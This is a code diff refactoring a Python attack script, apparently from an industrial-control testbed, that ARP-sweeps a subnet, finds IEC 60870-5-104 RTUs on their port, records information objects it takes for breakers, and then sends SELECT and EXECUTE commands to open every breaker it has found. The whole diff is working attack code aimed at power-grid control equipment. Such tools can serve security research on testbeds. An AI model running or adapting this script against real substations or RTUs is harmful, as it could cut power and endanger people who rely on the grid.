@@ -11,203 +11,263 @@ will go through each host sending a command to turn the value of each tracked
 information object to 'OFF' (0).
 '''
 
-from threading import Thread
-from socket import socket, AF_INET, SOCK_STREAM, IPPROTO_TCP, SHUT_RDWR
-from time import sleep
+import asyncio
+from threading import Event, Thread
+from selectors import DefaultSelector, EVENT_READ
+from socket import socket, AF_INET, AF_PACKET, SOCK_RAW, SOCK_STREAM, IPPROTO_TCP, SHUT_RDWR, SOL_SOCKET, SO_LINGER, TCP_NODELAY, htons, inet_aton, inet_ntoa
+from select import select
+from time import monotonic, sleep
 from inquirer import list_input
 from netifaces import AF_INET as INET, AF_LINK, ifaddresses, interfaces
-from random import randint
-from scapy.sendrecv import srp1, sr1, sr
-from scapy.layers.l2 import ARP, Ether
-from scapy.layers.inet import IP, TCP
 from ipaddress import ip_network, IPv4Address, IPv4Network, IPv6Network
-from typing import Union
+from typing import Optional, Union
+from dataclasses import dataclass, field
+from struct import Struct, error as struct_error
 
 # NEFICS imports
 from nefics.protos.iec10x.packets import APDU, APCI, ASDU, IO45, VSQ
 from nefics.protos.iec10x.iec104 import IEC104_PORT, MAX_LENGTH
+from nefics.protos.iec10x.enums import IO_LEN
+
+# ARP sweep parameters
+_ETH_P_ARP : int = 0x0806
+_ETH_FRAME_LEN : int = 1514
+_ARP_TIMEOUT : float = 2.0
+
+# RTU port scan parameters
+_PROBE_TIMEOUT : float = 0.1
+_LINGER_ABORT : bytes = Struct('ii').pack(1, 0)
+
+# Pre-built U-Frames
+_STARTDT_APDU : bytes = bytes(APDU()/APCI(type=0x03, UType=0x01))
+_STOPDT_APDU : bytes = bytes(APDU()/APCI(type=0x03, UType=0x04))
+_KEEPALIVE_APDU : bytes = bytes(APDU()/APCI(type=0x03, UType=0x10))
+_KEEPALIVE_INTERVAL : float = 10.0
+
+# C_SC_NA_1 (45) single command templates for SELECT (SE=1) and EXECUTE (SE=0)
+_SELECT_TMPL : bytes = bytes(APDU()/APCI(type=0x00, Tx=0, Rx=0)/ASDU(type=0x2d, VSQ=VSQ(SQ=0, number=1), COT=6, CommonAddress=0, IO=IO45(_sq=0, _balanced=False, IOA=0, SE=0b1, SCS=0)))
+_EXECUTE_TMPL : bytes = bytes(APDU()/APCI(type=0x00, Tx=0, Rx=0)/ASDU(type=0x2d, VSQ=VSQ(SQ=0, number=1), COT=6, CommonAddress=0, IO=IO45(_sq=0, _balanced=False, IOA=0, SE=0b0, SCS=0)))
+# I-Frame send and receive sequence numbers
+_SEQ_NUMBERS : Struct = Struct('<HH')
+
+# Start byte, APDU length and first two control octets (send sequence number for I-Frames)
+_APCI_HEADER : Struct = Struct('<BBH')
+_APCI_HEADER_LEN : int = 6
+# ASDU type, VSQ, COT and common address
+_ASDU_HEADER : Struct = Struct('<BBBB')
+# Single-point and double-point information ASDU types
+_ASDU_SIMPLE : frozenset[int] = frozenset([0x01, 0x02, 0x03, 0x04, 0x1E, 0x1F])
+
+def build_command(template: bytes, state: 'RTUState', ioa: int) -> bytes:
+    '''Patch the sequence numbers, common address and IOA into a single command template'''
+    frame = bytearray(template)
+    _SEQ_NUMBERS.pack_into(frame, 2, (state.tx << 1) & 0xfffe, (state.rx << 1) & 0xfffe)
+    frame[9] = state.ca & 0xff
+    frame[10:13] = ioa.to_bytes(3, 'little')
+    return bytes(frame)
 
 def arpscan(hosts: list[IPv4Address]):
     global alive
     global address
-    for host in hosts:
-        if str(host) != address['addr']:
-            print('[-] Trying {0:s} ...\r'.format(str(host)), end='')
-            response = srp1(Ether(src=address['mac'], dst='ff:ff:ff:ff:ff:ff', type=0x0806)/ARP(op=0x1, psrc=address['addr'], pdst=str(host)), iface=address['iface'], retry=0, timeout=0.33, verbose=0)
-            if response is not None and response.haslayer('ARP') and response['ARP'].op == 0x2:
-                print('   [!] {0:s} is alive'.format(str(host)))
-                alive.append(str(host))
-
-def handle_rtu(ipaddr: str):
-    global rtu_data
-    global rtu_comm
-    global rtu_keepalive
-    global rtu_thread_killswitch
-    global rtu_hasbreakers
-    buffer : bytes
-    rtu_comm[ipaddr].connect((ipaddr, IEC104_PORT))
-    rtu_comm[ipaddr].settimeout(10)
-    # Start data transmission
-    apdu : APDU = APDU()/APCI(type=0x03, UType=0x01)
-    buffer = apdu.build()
-    rtu_comm[ipaddr].send(buffer)
-    sleep(1)
-    rtu_keepalive[ipaddr].start()
-    while not rtu_thread_killswitch[ipaddr]:
-        try:
-            buffer = rtu_comm[ipaddr].recv(MAX_LENGTH)
-            apdu = APDU(buffer)
-            assert apdu.haslayer('APCI') and apdu.haslayer('ASDU')
-            apci = apdu['APCI']
-            asdu = apdu['ASDU']
-            if apci.type == 0x00:
-                if 'ca' not in rtu_data[ipaddr].keys():
-                    rtu_data[ipaddr]['ca'] = asdu.CommonAddress
-                rtu_data[ipaddr]['rx'] = apci.Tx
-                if asdu.type in [0x01, 0x02, 0x03, 0x04, 0x1E, 0x1F]:
-                    if ipaddr not in rtu_hasbreakers.keys():
-                        rtu_hasbreakers[ipaddr] = dict()    
-                        rtu_hasbreakers[ipaddr]['ioas'] = list()
-                        print('   [!] RTU in {0:s} has breakers'.format(ipaddr))
-                    io = asdu.IO
-                    ioa = io[0].IOA if isinstance(io, list) else io.IOA
-                    if asdu.type in [0x01, 0x02, 0x1E]:
-                        values = [x.SIQ for x in io] if isinstance(io, list) else io.SIQ
-                    else:
-                        values = [x.DIQ for x in io] if isinstance(io, list) else io.DIQ
-                    values = list([values]) if not isinstance(values, list) else values
-                    for x in [y for y  in range(ioa, ioa + len(values)) if y not in rtu_hasbreakers[ipaddr]['ioas']]:
-                        rtu_hasbreakers[ipaddr]['ioas'].append(x)
-                        print('   [!] New potential breaker found in {0:s}. IOA: {1:d}'.format(ipaddr, x))
-        except (TimeoutError, KeyError, IndexError, AssertionError):
-            pass
+    src_mac = bytes.fromhex(address['mac'].replace(':', ''))
+    # Broadcast ARP request template. The target protocol address is patched for each host.
+    frame = bytearray(
+        b'\xff' * 6 + src_mac + _ETH_P_ARP.to_bytes(2, 'big') +
+        bytes([0x00, 0x01, 0x08, 0x00, 0x06, 0x04, 0x00, 0x01]) +
+        src_mac + inet_aton(address['addr']) + b'\x00' * 10
+    )
+    targets = [inet_aton(str(host)) for host in hosts if str(host) != address['addr']]
+    pending = set(targets)
+    with socket(AF_PACKET, SOCK_RAW, htons(_ETH_P_ARP)) as sock:
+        sock.bind((address['iface'], 0))
+        for target in targets:
+            frame[38:42] = target
+            sock.send(frame)
+        print('[-] Sent {0:d} ARP requests ...'.format(len(targets)))
+        deadline = monotonic() + _ARP_TIMEOUT
+        while pending and (remaining := deadline - monotonic()) > 0:
+            readable, _, _ = select([sock], [], [], remaining)
+            if not readable:
+                break
+            reply = sock.recv(_ETH_FRAME_LEN)
+            # ARP reply (opcode 2) from one of the probed hosts
+            if len(reply) >= 42 and reply[12:14] == b'\x08\x06' and reply[20:22] == b'\x00\x02' and reply[28:32] in pending:
+                pending.discard(reply[28:32])
+                host = inet_ntoa(reply[28:32])
+                print('   [!] {0:s} is alive'.format(host))
+                alive.append(host)
+
+async def probe_rtu(host: str) -> Optional[str]:
+    try:
+        _, writer = await asyncio.wait_for(asyncio.open_connection(host, IEC104_PORT), _PROBE_TIMEOUT)
+    except (OSError, asyncio.TimeoutError):
+        return None
+    # Abort the connection with a RST instead of a FIN handshake
+    writer.get_extra_info('socket').setsockopt(SOL_SOCKET, SO_LINGER, _LINGER_ABORT)
+    writer.close()
+    try:
+        await writer.wait_closed()
+    except OSError:
+        pass # The abortive close may surface as a reset here
+    return host
+
+async def scan_rtus(hosts: list[str]) -> list[str]:
+    return [host for host in await asyncio.gather(*[probe_rtu(host) for host in hosts]) if host is not None]
 
-def keep_alive(ipaddr: str):
-    global rtu_thread_killswitch
-    global rtu_comm
-    while not rtu_thread_killswitch[ipaddr]:
-        apdu = APDU()/APCI(type=0x03, UType=0x10)
-        rtu_comm[ipaddr].send(apdu.build())
-        sleep(10)
+@dataclass(slots=True)
+class RTUState:
+    '''Connection and tracking state of a detected RTU'''
+    sock : socket
+    tx : int = 0
+    rx : int = 0
+    ca : int = -1
+    ioas : set[int] = field(default_factory=set)
+    ioa_order : list[int] = field(default_factory=list)
+    has_breakers : bool = False
+
+def connect_rtu(ipaddr: str):
+    global rtu_state
+    state : RTUState = rtu_state[ipaddr]
+    state.sock.connect((ipaddr, IEC104_PORT))
+    state.sock.settimeout(10)
+    # Start data transmission along with the first keep-alive
+    state.sock.sendall(_STARTDT_APDU + _KEEPALIVE_APDU)
+
+def handle_rtu(ipaddr: str, buffer: bytes):
+    global rtu_state
+    state : RTUState = rtu_state[ipaddr]
+    try:
+        start, _, ctl_tx = _APCI_HEADER.unpack_from(buffer)
+        if start != 0x68 or ctl_tx & 0x0001:
+            # Only I-Frames carry an ASDU
+            return
+        state.rx = ctl_tx >> 1
+        asdu_type, vsq, _, ca = _ASDU_HEADER.unpack_from(buffer, _APCI_HEADER_LEN)
+        if state.ca < 0:
+            state.ca = ca
+        if asdu_type in _ASDU_SIMPLE:
+            if not state.has_breakers:
+                state.has_breakers = True
+                print('   [!] RTU in {0:s} has breakers'.format(ipaddr))
+            number = vsq & 0x7f
+            offset = _APCI_HEADER_LEN + _ASDU_HEADER.size
+            if vsq & 0x80:
+                # SQ = 1 :: Single IOA followed by consecutive values
+                if len(buffer) < offset + 3 + number * IO_LEN[asdu_type]:
+                    raise IndexError('Truncated ASDU')
+                ioa = int.from_bytes(buffer[offset:offset + 3], 'little')
+                ioas = set(range(ioa, ioa + number))
+            else:
+                # SQ = 0 :: One IOA per information object
+                stride = 3 + IO_LEN[asdu_type]
+                if len(buffer) < offset + number * stride:
+                    raise IndexError('Truncated ASDU')
+                ioas = {int.from_bytes(buffer[o:o + 3], 'little') for o in range(offset, offset + number * stride, stride)}
+            new_ioas = ioas - state.ioas
+            state.ioas |= new_ioas
+            state.ioa_order.extend(sorted(new_ioas))
+            for x in sorted(new_ioas):
+                print('   [!] New potential breaker found in {0:s}. IOA: {1:d}'.format(ipaddr, x))
+    except (KeyError, IndexError, AssertionError, struct_error):
+        pass
+
+def monitor_rtus(stop: Event):
+    global rtu_state
+    selector = DefaultSelector()
+    for ipaddr, state in rtu_state.items():
+        selector.register(state.sock, EVENT_READ, data=ipaddr)
+    next_keepalive = monotonic() + _KEEPALIVE_INTERVAL
+    while not stop.is_set():
+        for key, _ in selector.select(timeout=0.5):
+            try:
+                buffer = key.fileobj.recv(MAX_LENGTH)
+            except OSError:
+                buffer = b''
+            if not buffer:
+                # Connection closed by the RTU
+                selector.unregister(key.fileobj)
+                continue
+            handle_rtu(key.data, buffer)
+        if monotonic() >= next_keepalive:
+            next_keepalive += _KEEPALIVE_INTERVAL
+            for key in selector.get_map().values():
+                try:
+                    key.fileobj.sendall(_KEEPALIVE_APDU)
+                except OSError:
+                    pass
+    selector.close()
 
 def main():
     global address
     global alive
-    global rtu_comm
-    global rtu_data
-    global rtu_threads
-    global rtu_keepalive
-    global rtu_thread_killswitch
-    global rtu_hasbreakers
+    global rtu_state
     buffer : bytes
+    ifaddrs : dict[str, dict] = {x: ifaddresses(x) for x in interfaces()}
     iface : str = list_input(
         'Choose an interface ',
-        choices=[f'{x:s} ({ifaddresses(x)[INET][0]["addr"]:s})' for x in interfaces() if INET in ifaddresses(x)]
+        choices=[f'{x:s} ({ifa[INET][0]["addr"]:s})' for x, ifa in ifaddrs.items() if INET in ifa]
     )
     iface = iface.split(' ')[0]
     print('[+] Using ' + str(iface))
-    address = ifaddresses(iface)[INET][0]
-    address['mac'] = ifaddresses(iface)[AF_LINK][0]['addr']
+    address = ifaddrs[iface][INET][0]
+    address['mac'] = ifaddrs[iface][AF_LINK][0]['addr']
     address['iface'] = iface
     subnet : Union[IPv4Network, IPv6Network] = ip_network(address['addr'] + '/' + address['netmask'], strict=False)
     assert isinstance(subnet, IPv4Network)
     nethosts : list[IPv4Address] = list(subnet.hosts())
     print('[+] Searching for live hosts in {0:s} ...'.format(str(subnet)))
     alive = list()
-    arpscan_threads : list[Thread] = []
-    for hosts in [nethosts[i:i + 16] for i in range(0, len(nethosts), 16)]:
-        t = Thread(target=arpscan, kwargs={'hosts': hosts})
-        t.start()
-        arpscan_threads.append(t)
-    while len(arpscan_threads):
-        for t in arpscan_threads:
-            t.join(1)
-            if not t.is_alive():
-                arpscan_threads.pop(arpscan_threads.index(t))
+    arpscan(nethosts)
     print('[+] Scanning for RTUs ...')
     rtus : list[str] = list()
-    for host in alive:
-        if host != address['addr']:
-            sport = randint(1025,65535)
-            print('[-] Trying {0:s} ...\r'.format(host), end='')
-            response = sr1(IP(src=address['addr'], dst=host)/TCP(sport=sport, dport=IEC104_PORT, flags='S'), iface=iface, timeout=0.1, retry=0, verbose=0)
-            if response is None:
-                # Filtered
-                pass
-            elif response.haslayer('TCP'):
-                if response['TCP'].flags == 0x12:
-                    # Open port -- Probably an RTU
-                    sr(IP(src=address['addr'], dst=host)/TCP(sport=sport, dport=IEC104_PORT, flags='R'), iface=iface, timeout=0.1, verbose=0)
-                    print('   [!] Found RTU at %s' % str(host))
-                    rtus.append(str(host))
-                elif response['TCP'].flags == 0x14:
-                    # Closed
-                    pass
-            elif response.haslayer('ICMP') and response['ICMP'].type == 3 and response['ICMP'].code in [1, 2, 3, 9, 10, 13]:
-                # Filtered
-                pass
+    for host in asyncio.run(scan_rtus([host for host in alive if host != address['addr']])):
+        print('   [!] Found RTU at %s' % str(host))
+        rtus.append(str(host))
     print('[+] Scanning complete !' + ' ' * 20)
     print('[+] Probing RTUs ...')
-    rtu_comm = dict()
-    rtu_data = dict()
-    rtu_threads = dict()
-    rtu_keepalive = dict()
-    rtu_thread_killswitch = dict()
-    rtu_hasbreakers = dict()
+    rtu_state = dict()
     for rtu_ip in rtus:
         sock = socket(AF_INET, SOCK_STREAM, IPPROTO_TCP)
-        rtu_comm[rtu_ip] = sock
-        if rtu_ip not in rtu_data.keys():
-            rtu_data[rtu_ip] = dict()
-            rtu_data[rtu_ip]['ioas'] = dict()
-        rtu_data[rtu_ip]['tx'] = 0
-        rtu_data[rtu_ip]['rx'] = 0
-        rtu_threads[rtu_ip] = Thread(target=handle_rtu, kwargs={'ipaddr': rtu_ip})
-        rtu_keepalive[rtu_ip] = Thread(target=keep_alive, kwargs={'ipaddr': rtu_ip})
-        rtu_thread_killswitch[rtu_ip] = False
-        rtu_threads[rtu_ip].start()
+        sock.setsockopt(IPPROTO_TCP, TCP_NODELAY, 1)
+        rtu_state[rtu_ip] = RTUState(sock=sock)
+        try:
+            connect_rtu(rtu_ip)
+        except OSError as e:
+            print('   [!] Unable to connect to {0:s}: {1:s}'.format(rtu_ip, str(e)))
+            rtu_state.pop(rtu_ip).sock.close()
+    stop_monitor = Event()
+    monitor = Thread(target=monitor_rtus, kwargs={'stop': stop_monitor})
+    monitor.start()
     sleep(30)
     print('[+] Opening all breakers ...')
-    for rtu_ip, ioas in rtu_hasbreakers.items():
+    for rtu_ip, state in rtu_state.items():
+        if not state.has_breakers:
+            continue
         print('   [-] Opening breakers in {0:s} ...'.format(rtu_ip))
-        for ioa in ioas['ioas']:
+        for ioa in state.ioa_order:
             print('      [#] Opening IOA {:d} ...'.format(ioa))
             # SELECT
-            rtu_data[rtu_ip]['tx'] += 1
-            apdu = APDU()
-            apdu /= APCI(type=0x00, Tx=rtu_data[rtu_ip]['tx'], Rx=rtu_data[rtu_ip]['rx'])
-            io = IO45(_sq=0, _balanced=False, IOA=ioa, SE=0b1, SCS=0)
-            apdu /= ASDU(type=0x2d, VSQ=VSQ(SQ=0, number=1), COT=6, CommonAddress=rtu_data[rtu_ip]['ca'], IO=io)
-            buffer = apdu.build()
-            rtu_comm[rtu_ip].send(buffer)
+            state.tx += 1
+            state.sock.sendall(build_command(_SELECT_TMPL, state, ioa))
             sleep(2)
             # EXECUTE
-            rtu_data[rtu_ip]['tx'] += 1
-            apdu = APDU()
-            apdu /= APCI(type=0x00, Tx=rtu_data[rtu_ip]['tx'], Rx=rtu_data[rtu_ip]['rx'])
-            io = IO45(_sq=0, _balanced=False, IOA=ioa, SE=0b0, SCS=0)
-            apdu /= ASDU(type=0x2d, VSQ=VSQ(SQ=0, number=1), COT=6, CommonAddress=rtu_data[rtu_ip]['ca'], IO=io)
-            buffer = apdu.build()
-            rtu_comm[rtu_ip].send(buffer)
+            state.tx += 1
+            state.sock.sendall(build_command(_EXECUTE_TMPL, state, ioa))
             sleep(2)
     print('[+] Done!')
     print('[+] Closing connections ...')
-    for rtu_ip in rtus:
-        rtu_thread_killswitch[rtu_ip] = True
-        rtu_threads[rtu_ip].join()
-        rtu_keepalive[rtu_ip].join()
+    stop_monitor.set()
+    monitor.join()
+    for state in rtu_state.values():
         try:
             # Stop data transmission
-            apdu : APDU = APDU()/APCI(type=0x03, UType=0x04)
-            buffer = apdu.build()
-            rtu_comm[rtu_ip].send(buffer)
+            state.sock.sendall(_STOPDT_APDU)
             sleep(0.2)
-            buffer = rtu_comm[rtu_ip].recv(MAX_LENGTH)
-            apdu = APDU(buffer)
+            state.sock.recv(MAX_LENGTH)
         except TimeoutError:
             pass
-        rtu_comm[rtu_ip].shutdown(SHUT_RDWR)
-        rtu_comm[rtu_ip].close()
+        state.sock.shutdown(SHUT_RDWR)
+        state.sock.close()
     print('[+] Bye!')
 
 if __name__ == '__main__':
@@ -216,11 +276,7 @@ if __name__ == '__main__':
         # globals
         global address
         global alive
-        global rtu_comm
-        global rtu_data
-        global rtu_threads
-        global rtu_thread_killswitch
-        global rtu_hasbreakers
+        global rtu_state
         main()
     except AssertionError as e:
         stderr.write(f'{str(e)}\n')